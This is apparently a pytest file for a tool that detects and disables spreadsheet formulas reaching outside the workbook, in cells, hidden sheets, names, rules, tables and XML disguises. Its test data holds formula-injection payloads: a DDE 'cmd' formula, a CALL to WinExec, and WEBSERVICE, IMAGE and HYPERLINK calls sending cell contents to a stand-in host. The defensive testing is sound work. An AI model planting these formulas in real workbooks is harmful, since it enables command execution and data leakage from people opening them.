"""Formulas that do more than reckon: told wherever they stand, and out of work in the copy that goes back."""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from rules.dossiers.checks.annotation import LIST_TITLE
from tests.workbooks.annotate.test_annotate import copy_of
from tests.workbooks.confined.test_examine import SURVEY, edited, examined, good, in_cell
from tests.workbooks.raw import ROSTER_PART, changed_parts, replacing
from tests.workbooks.samples import TEMPLATE
from workbooks.file.formulas import put_out_of_work, what_reaches_out
from workbooks.reproducible import unzipped

ACTIVE = {
    'HYPERLINK("https://elsewhere.example.invalid/?"&B5,"点击查看")': "HYPERLINK",
    '_xlfn.WEBSERVICE("https://elsewhere.example.invalid/"&A1)': "WEBSERVICE",
    "cmd|'/c calc'!A1": "DDE",
    "[1]Sheet1!A1": "外部引用",
    "'[1]附件 2'!A1": "外部引用",
    r"'\\elsewhere\share\book.xlsx'!total": "外部引用",
    "book.xlsx!total": "外部引用",
    'SUM(1,hyperlink ("x"))': "HYPERLINK",
    'RTD("prog",,"topic")': "RTD",
    '_xlfn.IMAGE("https://elsewhere.example.invalid/"&A1)': "IMAGE",
    "_xlfn._xlws.PY(0,0,A1)": "PY",
    'CUBEVALUE("c","m")': "CUBEVALUE",
    "_xll.SEND(A1)": "_XLL.SEND",
    'LET(_xlpm.f,_xleta.HYPERLINK,_xlpm.f("x"))': "_XLPM.F",
    'CALL("kernel32","WinExec","JCJ","calc",0)': "CALL",
}
OUT = '="公式已停用"'
FAR = 'HYPERLINK("https://elsewhere.example.invalid/?"&A5)'


@pytest.mark.parametrize("formula", ACTIVE)
def test_formula_that_reaches_out_is_refused_where_it_stands_and_out_of_work_in_the_copy(
    formula: str,
) -> None:
    data = edited(lambda book: book[SURVEY].__setitem__("Z9", f"={formula}"))

    done, copy = examined(data), load_workbook(BytesIO(copy_of(data, findings=())))

    assert (done.acceptable, [(one.code, one.sheet, one.ref) for one in done.findings]) == (
        False,
        [("active_formula", SURVEY, "Z9")],
    )
    assert f"（{ACTIVE[formula]}）：Z9。请复制这些格" in done.findings[0].message
    assert copy[SURVEY]["Z9"].value == OUT


def on_a_sheet_of_its_own(book: Workbook) -> None:
    book.create_sheet("别的")["B7"] = f"={FAR}"


def on_a_hidden_sheet(book: Workbook) -> None:
    sheet = book.create_sheet("藏起来的")
    sheet["B7"], sheet.sheet_state = f"={FAR}", "veryHidden"


def in_a_name(book: Workbook) -> None:
    book.defined_names["合计"] = DefinedName("合计", attr_text=FAR, hidden=True)


def in_a_conditional_format(book: Workbook) -> None:
    book[SURVEY].conditional_formatting.add("C5:C9", FormulaRule([f"LEN({FAR})>0"]))


def in_a_validation(book: Workbook) -> None:
    rule = DataValidation("list", formula1=f"=IF(1,{FAR})")
    rule.add("C5:C9")
    book[SURVEY].add_data_validation(rule)


@pytest.mark.parametrize(
    ("put", "told"),
    [
        (on_a_sheet_of_its_own, ("active_formula", "别的", "B7")),
        (on_a_hidden_sheet, ("active_formula", "藏起来的", "B7")),
        (in_a_name, ("active_name", "合计", "")),
        (in_a_conditional_format, ("active_rule", SURVEY, "C5:C9")),
        (in_a_validation, ("active_rule", SURVEY, "C5:C9")),
    ],
)
def test_formula_is_found_wherever_it_stands(
    put: Callable[[Workbook], None], told: tuple[str, str, str]
) -> None:
    data = edited(put)

    done, copy = examined(data), unzipped(copy_of(data, findings=()))

    findings = [one for one in done.findings if one.code != "sheet_unread"]
    assert [(one.code, one.sheet, one.ref) for one in findings] == [told]
    assert [name for name, part in copy.items() if b"HYPERLINK(" in part] == []


NEWER_RULE = (
    '<extLst><ext><x14:dataValidations xmlns:x14="x"><x14:dataValidation><x14:formula1><xm:f xmlns:xm="m">'
    f"{FAR.replace('&', '&amp;')}</xm:f></x14:formula1></x14:dataValidation></x14:dataValidations></ext></extLst>"
)
COLUMN = f"<calculatedColumnFormula>{FAR.replace('&', '&amp;')}</calculatedColumnFormula>"
TABLE = f"<table><tableColumn>{COLUMN}</tableColumn></table>"


def test_formula_is_found_in_newer_rules_and_in_parts_that_no_sheet_is() -> None:
    newer = changed_parts(good(), {ROSTER_PART: replacing(("</worksheet>", NEWER_RULE + "</worksheet>"))})
    table = changed_parts(good(), {"xl/tables/table9.xml": lambda _: TABLE})

    told = [[(one.code, one.sheet) for one in examined(data).findings] for data in (newer, table)]

    assert told == [[("active_rule", "附件2 花名册")], [("active_elsewhere", "xl/tables/table9.xml")]]


def test_formulas_of_the_template_stay_at_work() -> None:
    before, after = (load_workbook(BytesIO(data)) for data in (TEMPLATE, copy_of(TEMPLATE, findings=())))

    formulas = [
        {
            (sheet.title, cell.coordinate): cell.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f" and sheet.title != LIST_TITLE
        }
        for book in (before, after)
    ]
    assert formulas[0] == formulas[1] != {}


DISGUISED = [
    b"&#72;YPERLINK(A1)",
    b"<![CDATA[HYPERLINK(A1)]]>",
    b"HYPER<!-- x -->LINK(A1)",
    b"HYPER<!-- </x:f> -->LINK(A1)",
    b"HYPER<?x </x:f> ?>LINK(A1)",
]


@pytest.mark.parametrize("inside", DISGUISED)
@pytest.mark.parametrize("tag", [b'<x:f t="shared" si="0">', b"<x:f ref='a>b'>", b'<x:f ref="a/>b">'])
def test_formula_in_disguise_is_seen(tag: bytes, inside: bytes) -> None:
    xml = b"<x:c>" + tag + inside + b"</x:f><x:v>1</x:v></x:c>"

    assert put_out_of_work(xml) == xml.replace(inside, '"公式已停用"'.encode())


@pytest.mark.parametrize(
    "apart", [b"<!-- <f> -->", b"<![CDATA[<f><!--]]>", b"<![CDATA[<f>]]>", b"<f/>", b"<?x <f> ?>"]
)
def test_formula_behind_what_only_looks_like_one_is_seen(apart: bytes) -> None:
    xml = b"<c><t>" + apart + b"</t><f>HYPERLINK(A1)</f><f>--&gt;1</f></c>"

    assert put_out_of_work(xml) == xml.replace(b"HYPERLINK(A1)", '"公式已停用"'.encode())


@pytest.mark.parametrize(
    "formula",
    [
        'IF(A1>0,"HYPERLINK(x)|[1]",_xlfn.DISPIMG("ID_1",1))',
        "SUM(人员[年龄])+COUNTA(人员[[#This Row],[姓名]])",
        "'附件1 (2)'!$A$1:$B$9",
        "'王''s (旧)'!A1",
        "SUM(甲:乙!A1)/2",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
    ],
)
def test_formula_of_this_workbook_only_reckons(formula: str) -> None:
    assert what_reaches_out(formula) == ""


def test_dossier_with_sums_of_its_own_is_accepted() -> None:
    data = in_cell("C5", "<f>CONCATENATE(&quot;测&quot;,&quot;试&quot;)</f><v>测试</v>")

    assert re.findall("active_[a-z]+", " ".join(one.code for one in examined(data).findings)) == []
